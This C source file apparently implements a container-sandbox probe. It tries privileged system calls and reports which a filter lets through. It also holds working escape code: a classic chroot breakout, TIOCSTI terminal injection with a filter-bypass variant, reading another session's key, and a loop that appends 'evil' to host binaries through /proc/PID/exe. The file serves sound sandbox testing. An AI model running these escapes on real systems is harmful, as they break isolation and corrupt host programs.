/* SPDX-License-Identifier: Apache-2.0 */
/*
 * probe - what a payload would try, one attempt per line
 *
 *	probe calls		"NAME RESULT" for each system call of the table;
 *				RESULT is "done" or the name of the errno
 *	probe write PATH...	open each for writing and write a byte
 *	probe tty		push a byte into the terminal at descriptor 0
 *	probe chroot		leave a chroot the classic way, list the place
 *	probe key SERIAL	read a key of that number
 *	probe exe		for ever: write to the program of each newcomer
 *				that is none of the image's
 *
 * Static, so that it runs in any image.  "done" means that the call had its
 * effect, which on a host would be bad: it runs in containers only.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

#define TIOCLINUX_REQUEST 0x541c

static long try_bpf(void)
{
	union bpf_attr a;

	memset(&a, 0, sizeof(a));
	a.map_type = BPF_MAP_TYPE_ARRAY;
	a.key_size = a.value_size = 4;
	a.max_entries = 1;
	return syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof(a));
}

static long try_perf(void)
{
	uint32_t attr[32] = { 1, sizeof(attr), 0 };	/* software clock */

	return syscall(SYS_perf_event_open, attr, 0, -1, -1, 0);
}

static long try_userfaultfd(void)
{
	return syscall(SYS_userfaultfd, 0);
}

static long try_io_uring(void)
{
	char params[256] = { 0 };

	return syscall(SYS_io_uring_setup, 1, params);
}

static long try_kexec(void)
{
	return syscall(SYS_kexec_load, 0, 0, NULL, 0);
}

static long try_module(void)
{
	return syscall(SYS_finit_module, -1, "", 0);
}

static long try_unload(void)
{
	return syscall(SYS_delete_module, "nosuch", O_NONBLOCK);
}

static long try_reboot(void)
{
	/* wrong magic: EINVAL where it is let in, never a reboot */
	return syscall(SYS_reboot, 1, 2, 3, NULL);
}

static long try_syslog(void)
{
	return syscall(SYS_syslog, 10, NULL, 0);
}

static long try_swapon(void)
{
	return syscall(SYS_swapon, "/nosuch", 0);
}

static long try_acct(void)
{
	return syscall(SYS_acct, "/nosuch");
}

static long try_settime(void)
{
	struct timespec ts = { .tv_nsec = -1 };	/* invalid */

	return syscall(SYS_clock_settime, 0, &ts);
}

static long try_handle(void)
{
	uint32_t handle[3] = { 4, 1, 1 };

	return syscall(SYS_open_by_handle_at, AT_FDCWD, handle, O_RDONLY);
}

static long try_fanotify(void)
{
	return syscall(SYS_fanotify_init, 0, O_RDONLY);
}

static long try_quotactl(void)
{
	return syscall(SYS_quotactl, 0, NULL, 0, NULL);
}

static long try_mount(void)
{
	return mount("t", "/tmp", "tmpfs", 0, NULL);
}

static long try_umount(void)
{
	return umount2("/proc", MNT_DETACH);
}

static long try_remount(void)
{
	return mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
}

static long try_mknod(void)
{
	return mknod("/tmp/probe-disk", S_IFBLK | 0600, makedev(7, 0));
}

static long try_hostname(void)
{
	return sethostname("probe", 5);
}

static long try_alg(void)
{
	return socket(AF_ALG, SOCK_SEQPACKET, 0);
}

static long try_vsock(void)
{
	return socket(AF_VSOCK, SOCK_STREAM, 0);
}

static long try_audit(void)
{
	return socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT);
}

static long try_packet(void)
{
	return socket(AF_PACKET, SOCK_RAW, 0);
}

static long try_raw(void)
{
	return socket(AF_INET, SOCK_RAW, 1);
}

static long try_mem(void)
{
	return open("/dev/mem", O_RDONLY | O_CLOEXEC);
}

static long try_nice(void)
{
	return syscall(SYS_setpriority, 0, 0, -5);
}

static long try_sched(void)
{
	struct sched_param p = { .sched_priority = 1 };

	return sched_setscheduler(0, SCHED_FIFO, &p);
}

#ifdef __x86_64__
static long try_iopl(void)
{
	return syscall(SYS_iopl, 3);
}

/* socketcall(SYS_SOCKET, {AF_ALG, ...}) of the 386 */
static long try_int80(void)
{
	static uint32_t args[3] = { AF_ALG, SOCK_SEQPACKET, 0 };
	long r;

	__asm__ volatile("int $0x80"
			 : "=a"(r)
			 : "a"(102L), "b"(1L), "c"((long)(uintptr_t)args)
			 : "memory", "r8", "r9", "r10", "r11");
	if ((int)r < 0) {
		errno = -(int)r;
		return -1;
	}
	return r;
}

/* getpid of x32 */
static long try_x32(void)
{
	return syscall(0x40000000L | SYS_getpid);
}
#endif

static const struct {
	const char *name;
	long (*fn)(void);
} calls[] = {
	{ "bpf", try_bpf },
	{ "perf_event_open", try_perf },
	{ "userfaultfd", try_userfaultfd },
	{ "io_uring_setup", try_io_uring },
	{ "kexec_load", try_kexec },
	{ "finit_module", try_module },
	{ "delete_module", try_unload },
	{ "reboot", try_reboot },
	{ "syslog", try_syslog },
	{ "swapon", try_swapon },
	{ "acct", try_acct },
	{ "clock_settime", try_settime },
	{ "open_by_handle_at", try_handle },
	{ "fanotify_init", try_fanotify },
	{ "quotactl", try_quotactl },
	{ "mount", try_mount },
	{ "umount", try_umount },
	{ "remount-proc-sys", try_remount },
	{ "mknod", try_mknod },
	{ "sethostname", try_hostname },
	{ "AF_ALG", try_alg },
	{ "AF_VSOCK", try_vsock },
	{ "NETLINK_AUDIT", try_audit },
	{ "AF_PACKET", try_packet },
	{ "SOCK_RAW", try_raw },
	{ "dev-mem", try_mem },
	{ "setpriority", try_nice },
	{ "SCHED_FIFO", try_sched },
#ifdef __x86_64__
	{ "iopl", try_iopl },
	{ "int80-socketcall", try_int80 },
	{ "x32-getpid", try_x32 },
#endif
};

static const char *result(long r)
{
	return r >= 0 ? "done" : strerrorname_np(errno);
}

/* Each in a process of its own: a filter may kill. */
static int do_calls(void)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	for (size_t i = 0; i < sizeof(calls) / sizeof(*calls); i++) {
		int status = 0;
		pid_t pid = fork();

		if (pid == 0) {
			printf("%s %s\n", calls[i].name,
			       result(calls[i].fn()));
			_exit(0);
		}
		if (pid < 0 || waitpid(pid, &status, 0) < 0)
			return 1;
		if (WIFSIGNALED(status))
			printf("%s killed\n", calls[i].name);
	}
	return 0;
}

static int do_write(char **paths)
{
	for (; *paths; paths++) {
		int fd = open(*paths, O_WRONLY | O_CLOEXEC);
		long r = fd < 0 ? -1 : write(fd, "\n", 1);

		printf("%s %s\n", *paths, result(r));
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

static int do_tty(void)
{
	char byte = 'x';
	char paste = 3;

	printf("TIOCSTI %s\n", result(ioctl(0, TIOCSTI, &byte)));
	/* the kernel looks at 32 bits only: so has the filter to */
	printf("TIOCSTI-high %s\n",
	       result(syscall(SYS_ioctl, 0, 0xffffffff00000000UL | TIOCSTI,
			      &byte)));
	printf("TIOCLINUX %s\n", result(ioctl(0, TIOCLINUX_REQUEST, &paste)));
	return 0;
}

static int do_chroot(void)
{
	int up = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	mkdir("/tmp/jail", 0700);
	if (up < 0 || chroot("/tmp/jail") < 0) {
		perror("probe: chroot");
		return 1;
	}
	if (fchdir(up) < 0)
		return 1;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return 1;
	if (chroot(".") < 0)
		return 1;
	execl("/bin/ls", "ls", "/", (char *)NULL);
	return 1;
}

static int do_key(const char *serial)
{
	char buf[64] = "";
	long id = strtol(serial, NULL, 10);

	printf("session %s\n",
	       syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID,
		       KEY_SPEC_SESSION_KEYRING, 0) == id ? "shared" : "own");
	printf("read %s\n", result(syscall(SYS_keyctl, KEYCTL_READ, id, buf,
					   sizeof(buf))));
	return 0;
}

/* What runs cannot be written: hold it open until it has ended. */
static void spoil(int fd)
{
	char path[32];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 2000; i++) {
		int out = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);

		if (out >= 0) {
			(void)!write(out, "evil", 4);
			close(out);
			return;
		}
		if (errno != ETXTBSY)
			return;
		usleep(500);
	}
}

static int do_exe(void)
{
	struct stat root;
	pid_t own = getpid();
	pid_t next = own + 1;

	if (stat("/", &root) < 0)
		return 1;
	for (;;) {
		for (pid_t pid = next; pid < next + 8; pid++) {
			struct stat st;
			char path[32];
			int fd;

			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			next = pid;
			/* the image's own are on the file system of "/" */
			if (fstat(fd, &st) == 0 && st.st_dev != root.st_dev)
				spoil(fd);
			close(fd);
		}
	}
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	/* as root of a host it would unmount /proc */
	if (access("/run/.containerenv", F_OK) < 0) {
		fprintf(stderr, "probe: not in a container\n");
		return 2;
	}
	if (strcmp(what, "calls") == 0)
		return do_calls();
	if (strcmp(what, "write") == 0)
		return do_write(argv + 2);
	if (strcmp(what, "tty") == 0)
		return do_tty();
	if (strcmp(what, "chroot") == 0)
		return do_chroot();
	if (strcmp(what, "key") == 0 && argc == 3)
		return do_key(argv[2]);
	if (strcmp(what, "exe") == 0)
		return do_exe();
	fprintf(stderr, "usage: probe calls | write PATH... | tty | chroot | "
			"key SERIAL | exe\n");
	return 2;
}
